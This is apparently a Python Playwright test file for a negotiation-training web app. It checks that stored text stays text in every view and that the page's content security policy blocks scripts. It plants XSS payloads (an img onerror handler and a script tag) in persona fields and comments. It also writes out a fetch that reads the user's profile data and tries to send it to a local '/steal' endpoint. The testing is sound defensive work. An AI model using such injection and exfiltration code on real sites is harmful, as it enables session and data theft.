"""Stored text that looks like markup stays text in every view, in real Chromium; and the page's policy stops a
script that slipped past escaping from running or sending anything elsewhere.

A trainer's published persona carries script payloads in every field a trainee sees (name, role, scenario,
opening, positions), and a trainer's assignment note and comment carry one too. The trainee and the trainer then walk through
every screen that shows them. A payload that ran would set `window.__x`; one drawn as markup would leave an
element with an `onerror` attribute or an `<img src=x>` in the page.
"""

from __future__ import annotations

import http.server
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest
import yaml
from playwright.sync_api import Browser, Page, expect

from simulator.config import REPO_ROOT, Settings
from simulator.wiring import build_services
from tests.appserver import running_app
from tests.browser.test_browser import browser, send, show_tab, start  # noqa: F401  (the shared Chromium fixture)

PASSWORD = "correct horse"
IMG = "<img src=x onerror=\"window.__x='img'\">"
SCRIPT = "<script>window.__x='script'</script>"
NAME = f"Dana {IMG}{SCRIPT}"
COMMENT = f"Ask first. {IMG}{SCRIPT}"
GOOD = "I hear you, and I know renewals are tough. What would a good outcome look like for you?"


def _cli(data: Path, *args: str) -> None:
    env = {**os.environ, "PARLEY_DATA_DIR": str(data)}
    done = subprocess.run(
        [sys.executable, "-m", "simulator", *args], env=env, cwd=REPO_ROOT, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.fixture(scope="module")
def payload_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    data = tmp_path_factory.mktemp("payload-data")
    exported = data / "dana.yaml"
    _cli(data, "personas", "export", "procurement_discount", "--format", "yaml", "-o", str(exported))
    persona = yaml.safe_load(exported.read_text(encoding="utf-8"))
    persona.update(
        id="payload_dana",
        name=NAME,
        role=f"Head of Procurement {IMG}",
        scenario=f"{persona['scenario']} {SCRIPT}",
        opening=f"{persona['opening']} {IMG}",
    )
    persona["positions"][0]["statement"] += f" {IMG}"
    exported.write_text(yaml.safe_dump(persona, sort_keys=False), encoding="utf-8")
    _cli(data, "personas", "import", str(exported))
    _cli(data, "personas", "publish", "payload_dana")

    previous = os.environ.get("PARLEY_DATA_DIR")
    os.environ["PARLEY_DATA_DIR"] = str(data)
    try:
        services = build_services(Settings.from_env(), meaning=False)
    finally:
        if previous is None:
            os.environ.pop("PARLEY_DATA_DIR")
        else:
            os.environ["PARLEY_DATA_DIR"] = previous
    team = services.team
    team.add_user("tess", "trainer", PASSWORD)
    team.add_user("ann", "trainee", PASSWORD, trainer="tess")
    tess = team.caller("tess")
    team.assign(tess, ["ann"], ["payload_dana"], note=f"Read the brief twice. {IMG}{SCRIPT}")
    played = team.start(team.caller("ann"), "payload_dana")
    team.send(team.caller("ann"), played, GOOD)
    team.end(team.caller("ann"), played)
    team.comment(tess, played.session_id, 1, COMMENT)
    services.close()
    with running_app(data) as url:
        yield url, played.session_id


WATCH = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective));
"""


def _page(browser: Browser, url: str, name: str) -> Page:  # noqa: F811
    page = browser.new_context(viewport={"width": 1280, "height": 800}).new_page()
    page.add_init_script(WATCH)
    page.goto(url)
    page.locator("input[data-testid='textbox']").fill(name)
    page.locator("input[type='password']").fill(PASSWORD)
    page.get_by_role("button", name="Login").click()
    expect(page.locator("#who")).to_contain_text(f"Signed in as {name}")
    return page


def _open_first_session(page: Page, who: str) -> None:
    """Open the oldest session matching `who` in the Review tab (the one the trainer commented on)."""
    box = page.locator("#review-session input").first
    box.click()
    box.fill(who)
    page.get_by_role("option", name=who, exact=False).last.click()
    page.locator("#open-transcript").click()


def _nothing_ran(page: Page, where: str) -> None:
    page.wait_for_timeout(300)  # an image's onerror fires a moment after the markup lands
    assert page.evaluate("window.__x") is None, f"{where}: a payload ran"
    drawn = page.evaluate(
        "[...document.querySelectorAll('[onerror], img[src=\"x\"]'),"
        " ...[...document.querySelectorAll('script')].filter(s => s.textContent.trim().startsWith('window.__x'))]"
        ".map(e => (e.closest('[id]')?.id || '?') + ': ' + e.outerHTML.slice(0, 80))"
    )
    assert drawn == [], f"{where}: a payload was drawn as markup: {drawn}"


def test_payloads_in_a_persona_and_a_comment_stay_text_in_every_view(
    payload_app: tuple[str, str],
    browser: Browser,  # noqa: F811
) -> None:
    url, _ = payload_app
    page = _page(browser, url, "ann")
    card = page.locator("#my-assignments .card").first
    expect(card).to_contain_text("<img src=x")  # shown as written
    expect(card).to_contain_text("Read the brief twice.")
    _nothing_ran(page, "trainee home")
    show_tab(page, "My practice")
    start(page, card.locator("button[data-action='start']"))
    expect(page.locator("#status")).to_contain_text("opened the conversation")
    expect(page.locator("#status")).to_contain_text("<img src=x")
    _nothing_ran(page, "conversation start (status line, brief, opening)")
    send(page, GOOD, 2)
    expect(page.locator("#status")).to_contain_text("replied to message 1")
    _nothing_ran(page, "status line after a reply, coach panel")
    page.locator("#end").click()
    expect(page.locator("#debrief-plots svg.trust-chart")).to_have_count(1)
    _nothing_ran(page, "debrief")
    show_tab(page, "Review")
    page.locator("#apply-filter").click()
    expect(page.locator("#sessions-table")).to_contain_text("<img src=x")
    _open_first_session(page, "Dana")
    expect(page.locator("#transcript")).to_contain_text("Ask first.")
    _nothing_ran(page, "trainee review with the trainer's comment")

    trainer = _page(browser, url, "tess")
    _nothing_ran(trainer, "trainer home")
    show_tab(trainer, "Review")
    trainer.locator("#apply-filter").click()
    expect(trainer.locator("#sessions-table")).to_contain_text("<img src=x")
    _open_first_session(trainer, "ann")
    expect(trainer.locator("#transcript")).to_contain_text("Ask first.")
    _nothing_ran(trainer, "trainer review")
    for tab in ("Assign", "Studio"):
        show_tab(trainer, tab)
        _nothing_ran(trainer, tab)
    for seen in (page, trainer):
        assert seen.evaluate("window.__violations") == [], "the app's own pages broke its own policy"


class _Collector(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Collector.hits.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: object) -> None:
        pass


def test_markup_that_slips_past_escaping_cannot_run_or_send_anything_away(
    payload_app: tuple[str, str],
    browser: Browser,  # noqa: F811
) -> None:
    url, _ = payload_app
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Collector)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    elsewhere = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        page = _page(browser, url, "ann")
        # As if an escaping slip had put this markup in a panel: an inline handler, and a script tag the way
        # Gradio's HTML component copies one into the page.
        page.evaluate(
            """(elsewhere) => {
                const slip = document.createElement('div');
                slip.innerHTML = `<img src="/nothing.png" onerror="window.__x='img'">`;
                document.body.appendChild(slip);
                const copied = document.createElement('script');
                copied.textContent = "window.__x = 'script'";
                document.head.appendChild(copied);
            }""",
            elsewhere,
        )
        page.wait_for_timeout(500)
        assert page.evaluate("window.__x") is None
        assert {"script-src-attr", "script-src-elem"} <= set(page.evaluate("window.__violations"))
        # Code already running (here, the test's own) still cannot read the user's data and send it elsewhere.
        sent = page.evaluate(
            """async (elsewhere) => {
                const me = await (await fetch('parley/api/v1/me')).text();
                try { await fetch(elsewhere + '/steal?' + encodeURIComponent(me)); return 'sent'; }
                catch (e) { return 'blocked'; }
            }""",
            elsewhere,
        )
        assert sent == "blocked"
        page.wait_for_timeout(500)
        assert _Collector.hits == []
    finally:
        server.shutdown()
